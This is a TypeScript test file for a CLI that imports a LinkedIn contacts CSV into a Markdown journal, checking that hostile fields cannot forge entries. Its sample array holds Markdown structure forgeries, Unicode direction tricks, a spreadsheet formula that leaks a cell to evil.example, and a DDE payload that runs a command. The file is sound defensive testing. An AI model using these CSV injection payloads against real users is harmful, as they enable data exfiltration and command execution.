import * as assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseJournal } from '../../../src/core/journal';
import { runCli } from './cliIo';

const HOSTILE = [
  'Eve\n## Mallory\n- id: forged',
  '- status: accepted',
  '### Draft\n```\nsent',
  '```',
  '~~~',
  '<!--',
  'Bob\u202Egnp.exe',
  'Zero\u200Bwidth\u200D',
  '   ',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '# Title\r\n## Carriage'
];

const csvField = (value: string) => `"${value.replace(/"/g, '""')}"`;

describe('hardening: structure forgery through import', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'deliberate-forge-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('hostile names, companies and positions add exactly one entry each and change nothing else', async () => {
    const existing = '# J\n\n## Existing\n- id: https://www.linkedin.com/in/existing\n- status: deferred\n';
    writeFileSync(join(dir, 'j.md'), existing);
    const rows = ['First Name,Last Name,URL,Email Address,Company,Position,Connected On'];
    HOSTILE.forEach((value, i) => {
      rows.push(
        [
          csvField(value),
          csvField(`L${i}`),
          `https://www.linkedin.com/in/p${i}`,
          '',
          csvField(value),
          csvField(value),
          '01 Mar 2026'
        ].join(',')
      );
    });
    writeFileSync(join(dir, 'c.csv'), rows.join('\r\n') + '\r\n');
    const r = await runCli(['import', 'c.csv', '--journal', 'j.md'], dir);
    assert.equal(r.code, 0, r.err);
    const text = readFileSync(join(dir, 'j.md'), 'utf8');
    assert.ok(text.startsWith(existing), 'existing bytes untouched');
    const journal = parseJournal(text);
    assert.equal(journal.entries.length, 1 + HOSTILE.length);
    assert.deepEqual(
      journal.entries.slice(1).map((e) => e.id),
      HOSTILE.map((_, i) => `https://www.linkedin.com/in/p${i}`)
    );
    assert.ok(journal.entries.slice(1).every((e) => e.status === 'new'));
    assert.equal(journal.entries[0].status, 'deferred');
    assert.doesNotMatch(text, /[\u202E\u200B\u200D]/);
    // Formula cells are inert text on one metadata line, never a separate line or entry.
    assert.match(text, /^- headline: .*=HYPERLINK\(/m);
    // A second import of the same file adds nothing: every forged entry is found again by id.
    const again = await runCli(['import', 'c.csv', '--journal', 'j.md'], dir);
    assert.equal(again.code, 0);
    assert.equal(readFileSync(join(dir, 'j.md'), 'utf8'), text);
  });
});
